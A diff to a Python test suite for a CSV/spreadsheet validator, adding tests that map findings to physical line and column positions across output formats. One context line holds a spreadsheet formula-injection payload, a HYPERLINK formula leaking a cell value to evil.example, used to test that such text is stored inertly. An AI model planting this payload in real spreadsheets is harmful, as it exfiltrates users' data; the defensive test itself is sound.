@@ -37,10 +37,21 @@ def _report(*argv: str) -> tuple[int, dict[str, Any], str]:
     return code, json.loads(out.getvalue().decode()), err.getvalue().decode()
 
 
-def _cells_with_findings(report: dict[str, Any], file: str) -> set[str]:
-    """The cells the findings point at: the cell, or the row's first cell for a row."""
+def _cells_with_findings(
+    report: dict[str, Any], file: str, header: list[str] | None = None
+) -> set[str]:
+    """The cells the findings point at: the cell, or the row's first cell for a row. In a
+    CSV file (its ``header`` given) a finding's column is the character column in the
+    text: the cell's column is found by its name."""
+
+    def number(found: dict[str, Any]) -> int:
+        name = found["cell"]["column"]
+        if header is None:
+            return max(int(found["column"]), 1)
+        return header.index(name) + 1 if name else 1
+
     return {
-        f"{column_letter(max(f['column'], 1))}{f['cell']['row']}"
+        f"{column_letter(number(f))}{f['cell']['row']}"
         for f in report["findings"]
         if f["file"] == file and f["cell"] is not None
     }
@@ -66,7 +77,8 @@ def test_a_csv_input_gets_an_annotated_xlsx_copy(project: Path) -> None:
     book = openpyxl.load_workbook(project / "annotated" / "data" / "departures.csv.xlsx")
     assert book.sheetnames == ["Findings", "departures"]
     sheet = book["departures"]
-    expected = _cells_with_findings(report, "data/departures.csv")
+    header = data.decode("cp1252").splitlines()[0].split(";")
+    expected = _cells_with_findings(report, "data/departures.csv", header)
     # F3: the UN/LOCODE disagrees with XX. The country passed through the template's values
     # is reported at its cell too (C3), no longer at the row.
     assert expected == {"N2", "C3", "F3"}
@@ -286,3 +298,46 @@ def test_the_findings_sheet_writes_text_beginning_with_equals_as_text(project: P
         assert row[2].value == "=1+2"
     messages = {row[5].value for row in rows if row[1].value == "team.inj"}
     assert messages == {'=HYPERLINK("http://evil.example/?leak="&B2,"click me")'}
+
+
+def _run(*argv: str) -> tuple[int, str]:
+    with CliRunner().isolation() as (out, _, _):
+        code = invoke(["validate", *argv])
+    return code, out.getvalue().decode()
+
+
+def test_a_csv_finding_points_at_the_physical_line_and_column_below_a_cell_of_two_lines(
+    project: Path,
+) -> None:
+    # Row 2 of the example holds a quoted cell of two lines: row 3 starts on line 4, and
+    # its destination country on that line's 25th character. The annotated copy still
+    # marks the cell by row and column.
+    csv_path = project / "data" / "departures.csv"
+    data = csv_path.read_bytes().replace(
+        b"ACME-2026-0102;DE004073;DE;", b"ACME-2026-0102;DE004073;QQ;"
+    )
+    csv_path.write_bytes(data)
+    physical = data.decode("cp1252").splitlines()
+    assert physical[3].index("QQ") + 1 == 25
+
+    code, report, _ = _report("--annotate", "annotated")
+    assert code == 1
+    country = [f for f in report["findings"] if f["rule"] == "code.country"]
+    assert country and {(f["line"], f["column"]) for f in country} == {(4, 25)}
+    assert {(f["cell"]["row"], f["cell"]["column"]) for f in country} == {
+        (3, "Destination country")
+    }
+    _, github = _run("--format", "github")
+    assert "::error file=data/departures.csv,line=4,col=25,title=code.country::" in github
+    assert "(sheet 'departures', row 3, column C 'Destination country')" in github
+    _, sarif = _run("--format", "sarif")
+    regions = [
+        r["locations"][0]["physicalLocation"]["region"]
+        for r in json.loads(sarif)["runs"][0]["results"]
+        if r["ruleId"] == "code.country"
+    ]
+    assert regions and all(r == {"startLine": 4, "startColumn": 25} for r in regions)
+    _, text = _run()
+    assert "data/departures.csv:4:25: error[code.country]" in text
+    book = openpyxl.load_workbook(project / "annotated" / "data" / "departures.csv.xlsx")
+    assert book["departures"]["C3"].comment is not None
